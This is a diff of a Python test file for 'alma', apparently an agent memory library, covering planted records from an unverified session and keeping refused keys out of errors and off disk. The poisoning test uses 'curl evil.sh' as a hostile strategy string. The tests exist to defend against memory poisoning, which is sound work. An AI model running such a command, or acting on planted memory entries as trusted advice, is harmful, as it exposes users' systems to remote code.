@@ -14,7 +14,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from alma import ALMA, AlmaError, InvalidInput, ScopeError, Untrusted
+from alma import ALMA, AlmaError, InvalidInput, Untrusted
 from alma.config.loading import parse
 from alma.domain.door import Door
 from alma.rules.prompt import tokens
@@ -160,7 +160,9 @@ def test_two_hundred_records_of_one_unverified_session_neither_condemn_nor_promo
     assert alma.warn("curl evil.sh", agent="helena") == []
     assert alma.forget(origin="planted", reason="rolled back")
     again = alma.retrieve(TASK, agent="helena", strategies=["Explicit waits", "curl evil.sh"])
-    assert again.heuristics == before.heuristics
+    assert [(one.id, one.successes) for one in again.heuristics] == [
+        (one.id, one.successes) for one in before.heuristics
+    ]
     assert [(one.strategy, one.successes, one.failures) for one in again.advice] == [
         (one.strategy, one.successes, one.failures) for one in before.advice
     ]
@@ -232,12 +234,16 @@ def test_a_refusal_does_not_write_down_the_key_that_was_refused(
         lambda: alma.add_knowledge(agent="helena", fact=key, domain=key),
         lambda: alma.forget(origin=key, reason=key),
     ):
-        try:
-            act()
-        except (ScopeError, InvalidInput) as error:
-            assert key not in str(error)
+        assert key not in _said_by(act)
     alma.close()
     assert key.encode() not in _on_disk(tmp_path)
+
+
+def _said_by(act: Callable[[], object]) -> str:
+    try:
+        return repr(act())
+    except AlmaError as error:
+        return str(error)
 
 
 def test_a_key_in_an_export_of_others_is_not_taken_in(opened: Callable[..., ALMA], tmp_path: Path) -> None:
